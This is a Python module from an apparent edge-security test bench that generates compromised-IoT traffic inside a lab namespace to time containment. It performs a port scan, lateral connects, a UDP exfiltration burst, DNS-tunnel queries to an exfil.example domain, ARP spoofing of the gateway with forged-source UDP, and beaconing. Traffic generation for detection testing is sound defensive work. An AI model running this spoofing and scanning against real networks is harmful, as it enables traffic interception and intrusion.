"""Real attack traffic from inside a device namespace (``edgesec lab attack``).

Run as ``python -m edgesec.lab.attack KIND --gateway IP [--peer IP ...]
[--wan IP]`` inside the device's namespace.  Each kind makes the traffic a
compromised IoT device would, with ordinary sockets (raw ones for spoofing):

* ``scan`` — TCP SYNs (non-blocking connects) to 200 ports of the WAN host;
* ``lateral`` — connects to common ports of other devices and the gateway;
* ``exfil`` — a burst of UDP to the WAN host (``--bytes``, default 96 MiB);
* ``dnstunnel`` — 40 TXT queries with base32 payload labels to the gateway;
* ``spoof`` — ARP replies claiming the gateway's address, then UDP with a
  peer's source address;
* ``beacon`` — a connection to a new external address every second.

The first malicious packet's time is printed (``{"first_packet": unix}``)
so the bench can measure time to containment.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import ipaddress
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable

import dns.message
import dns.rdatatype

KINDS = ("scan", "lateral", "exfil", "dnstunnel", "spoof", "beacon")
LATERAL_PORTS = (22, 23, 80, 443, 554, 1883, 8080, 8443)


def _mark() -> None:
    print(json.dumps({"first_packet": time.time()}), flush=True)


def _connects(targets: list[tuple[str, int]], pause: float = 0.0) -> int:
    """Start a non-blocking TCP connect to every target (one SYN each); close later."""
    socks = []
    for host, port in targets:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        with contextlib.suppress(OSError):
            s.connect((host, port))
        socks.append(s)
        if pause:
            time.sleep(pause)
    time.sleep(0.5)
    for s in socks:
        s.close()
    return len(socks)


def scan(wan: str, **_: object) -> int:
    _mark()
    return _connects([(wan, p) for p in range(1, 201)], 0.002)


def lateral(gateway: str, peers: list[str], **_: object) -> int:
    _mark()
    targets = [(h, p) for h in [gateway, *peers] for p in LATERAL_PORTS]
    return _connects(targets, 0.005)


def exfil(wan: str, size: int, **_: object) -> int:
    _mark()
    chunk = os.urandom(1400)
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        while sent < size:
            with contextlib.suppress(OSError):
                s.sendto(chunk, (wan, 9999))
            sent += len(chunk)
    return sent


def dnstunnel(gateway: str, **_: object) -> int:
    _mark()
    n = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.05)
        for i in range(40):
            label = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
            q = dns.message.make_query(f"{label}.{i}.t.exfil.example", dns.rdatatype.TXT)
            s.sendto(q.to_wire(), (gateway, 53))
            with contextlib.suppress(OSError):
                s.recv(4096)
            n += 1
    return n


def _iface_and_mac() -> tuple[str, bytes]:
    for name in sorted(os.listdir("/sys/class/net")):
        if name != "lo":
            with open(f"/sys/class/net/{name}/address") as fh:
                return name, bytes.fromhex(fh.read().strip().replace(":", ""))
    raise OSError("no interface")


def _arp_reply(mac: bytes, claimed_ip: str, target_ip: str) -> bytes:
    eth = b"\xff" * 6 + mac + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac,
                      ipaddress.IPv4Address(claimed_ip).packed, b"\xff" * 6,
                      ipaddress.IPv4Address(target_ip).packed)
    return eth + arp


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def _forged_udp(src: str, dst: str) -> bytes:
    payload = b"forged"
    udp = struct.pack("!HHHH", 40000, 9999, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                      ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed)
    hdr = hdr[:10] + struct.pack("!H", _checksum(hdr)) + hdr[12:]
    return hdr + udp


def spoof(gateway: str, peers: list[str], wan: str, **_: object) -> int:
    ifname, mac = _iface_and_mac()
    _mark()
    n = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((ifname, 0))
        for _i in range(5):
            s.send(_arp_reply(mac, gateway, gateway))
            n += 1
            time.sleep(0.05)
    if peers:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
            for _i in range(10):
                with contextlib.suppress(OSError):
                    s.sendto(_forged_udp(peers[0], wan), (wan, 0))
                n += 1
    return n


def beacon(wan: str, count: int = 10, **_: object) -> int:
    _mark()
    host = str(ipaddress.IPv4Address(wan) + 1) if wan else "198.51.100.8"
    for _i in range(count):
        _connects([(host, 8443)])
        time.sleep(0.5)
    return count


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="edgesec.lab.attack")
    ap.add_argument("kind", choices=KINDS)
    ap.add_argument("--gateway", required=True)
    ap.add_argument("--peer", action="append", default=[])
    ap.add_argument("--wan", default="")
    ap.add_argument("--bytes", type=int, default=96 * 1024 * 1024)
    args = ap.parse_args(argv)
    kinds: dict[str, Callable[..., int]] = {
        "scan": scan, "lateral": lateral, "exfil": exfil, "dnstunnel": dnstunnel,
        "spoof": spoof, "beacon": beacon}
    fn = kinds[args.kind]
    done = fn(gateway=args.gateway, peers=args.peer, wan=args.wan, size=args.bytes)
    print(json.dumps({"kind": args.kind, "sent": done}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
